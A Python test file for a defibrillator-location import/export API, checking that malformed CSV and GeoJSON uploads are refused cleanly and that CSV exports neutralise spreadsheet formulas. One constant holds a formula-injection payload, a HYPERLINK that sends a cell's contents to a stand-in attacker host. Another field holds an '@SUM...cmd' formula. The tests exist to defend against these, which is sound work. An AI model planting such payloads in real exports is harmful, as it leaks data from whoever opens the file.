"""AED files in and out: any upload to the import is stored or answered 422 (never 500), and
the CSV export cannot carry a formula into the venue's Excel."""

from __future__ import annotations

import contextlib
import csv
import io
import json

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from gongchuang.core.errors import InvalidInput
from gongchuang.emergency import service
from gongchuang.emergency.models import Aed
from gongchuang.emergency.schemas import AedIn
from tests.conftest import api_token
from tests.emergency.conftest import EmergencyWorld, at
from tests.support.principals import acting

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def import_url(ew: EmergencyWorld) -> str:
    return f"/api/v1/emergency/organisations/{ew.mall.id}/aeds/import"


def count(session: Session) -> int:
    return session.scalar(select(func.count(Aed.id))) or 0


def test_a_csv_with_cr_line_endings_is_imported(client, ew, session) -> None:
    # Classic Mac Excel ends lines with CR alone: this was a 500 (csv.Error uncaught).
    lat, lng = at(10, 10)
    body = f"lat,lng,address\r{lat},{lng},一楼服务台\r{lat},{lng},二楼\r".encode()
    staff = api_token(client, ew.mall_staff.phone, ["emergency.venue"])
    response = client.post(import_url(ew), files={"file": ("aeds.csv", body)}, headers=staff)
    assert response.status_code == 201, response.text
    assert response.json()["created"] == 2 and count(session) == 3


def feature(**changes: object) -> dict[str, object]:
    lat, lng = at(20, 20)
    base: dict[str, object] = {
        "type": "Feature",
        "id": "node/1",
        "geometry": {"type": "Point", "coordinates": [lng, lat]},
        "properties": {"emergency": "defibrillator"},
    }
    return {**base, **changes}


def collection(*features: object) -> bytes:
    return json.dumps({"type": "FeatureCollection", "features": list(features)}).encode()


MALFORMED = {
    "not json": b"{not json",
    "gbk text": '{"type": "FeatureCollection", "features": []} 中'.encode("gb18030"),
    "utf-16": collection(feature()).decode().encode("utf-16"),
    "a list": b"[1, 2]",
    "a string": b'"FeatureCollection"',
    "features not a list": b'{"type": "FeatureCollection", "features": {"a": 1}}',
    "features null": b'{"type": "FeatureCollection", "features": null}',
    "no features": b'{"type": "FeatureCollection", "features": []}',
    "feature a string": collection("node/1"),
    "feature a number": collection(5),
    "feature a list": collection([1, 2]),
    "geometry a string": collection(feature(geometry="POINT(111 27)")),
    "geometry a list": collection(feature(geometry=[111, 27])),
    "coordinates a string": collection(feature(geometry={"type": "Point", "coordinates": "x"})),
    "coordinates nested": collection(
        feature(geometry={"type": "Point", "coordinates": [[111, 27], [111, 27]]})
    ),
    "coordinates NaN": b'{"type": "FeatureCollection", "features": [{"geometry": '
    b'{"type": "Point", "coordinates": [NaN, Infinity]}, "properties": {}}]}',
    "properties a list": collection(feature(geometry=None, properties=["emergency"])),
    "properties a string": collection(feature(geometry=None, properties="defibrillator")),
    "emergency a list": collection(feature(properties={"emergency": ["defibrillator"]})),
    "dates not dates": collection(
        feature(properties={"check_date": {"y": 2026}, "battery_expires_on": [1]})
    ),
    "deeply nested": b'{"type": "FeatureCollection", "features": ' + b"[" * 100_000,
}


@pytest.mark.parametrize("body", MALFORMED.values(), ids=MALFORMED.keys())
def test_malformed_geojson_is_a_422_and_nothing_is_stored(client, ew, session, body) -> None:
    staff = api_token(client, ew.mall_staff.phone, ["emergency.venue"])
    response = client.post(import_url(ew), files={"file": ("aeds.geojson", body)}, headers=staff)
    assert response.status_code == 422, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    assert count(session) == 1


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner),
    max_leaves=12,
)
feature_like = st.fixed_dictionaries(
    {},
    optional={
        "id": json_values,
        "geometry": json_values
        | st.fixed_dictionaries({"type": st.just("Point"), "coordinates": json_values}),
        "properties": json_values
        | st.dictionaries(
            st.sampled_from(["emergency", "opening_hours", "check_date", "ref", "status", "@id"]),
            json_values,
        ),
    },
)


@settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(features=st.lists(feature_like | json_values, max_size=4))
def test_any_json_features_are_stored_or_refused_never_a_crash(
    ew: EmergencyWorld, session: Session, features: list[object]
) -> None:
    body = json.dumps({"type": "FeatureCollection", "features": features}).encode()
    with session.begin_nested() as savepoint:
        with contextlib.suppress(InvalidInput):  # anything else fails the test
            service.import_aeds(session, acting(ew.mall_staff), ew.mall, body, "osm.geojson")
        savepoint.rollback()


def test_csv_export_makes_formulas_plain_text(client, ew, session) -> None:
    lat, lng = at(30, 30)
    service.create_aed(
        session,
        acting(ew.mall_staff),
        ew.mall,
        AedIn(lat=lat, lng=lng, address=HYPERLINK, indoor_directions="@SUM(1+1)*cmd"),
    )
    staff = api_token(client, ew.mall_staff.phone, ["emergency.venue"])
    exported = client.get(
        f"/api/v1/emergency/organisations/{ew.mall.id}/aeds/export",
        params={"format": "csv"},
        headers=staff,
    )
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff"))))
    evil = next(r for r in rows if "HYPERLINK" in r["address"])
    assert evil["address"] == "'" + HYPERLINK
    assert evil["indoor_directions"] == "'@SUM(1+1)*cmd"
    assert float(evil["lat"]) == lat  # numbers stay numbers
    # The export's own format imports back as it was.
    again = client.post(
        import_url(ew),
        files={"file": ("aeds.csv", exported.content)},
        headers=staff,
    )
    assert again.status_code == 201, again.text
    addresses = session.scalars(select(Aed.address).where(Aed.address == HYPERLINK)).all()
    assert len(addresses) == 2


def test_bad_features_are_named_by_position_and_osm_id(client, ew, session) -> None:
    body = collection(
        feature(),
        feature(id="node/22", geometry=None),
        {**feature(), "id": None, "properties": {"@id": "node/33", "emergency": "fire_hydrant"}},
        feature(id="way/44", properties={"status": "broken"}),
    )
    staff = api_token(client, ew.mall_staff.phone, ["emergency.venue"])
    refused = client.post(import_url(ew), files={"file": ("osm.geojson", body)}, headers=staff)
    assert refused.status_code == 422
    assert [(e["feature"], e["id"]) for e in refused.json()["errors"]] == [
        (2, "node/22"),
        (3, "node/33"),
        (4, "way/44"),
    ]
    assert count(session) == 1
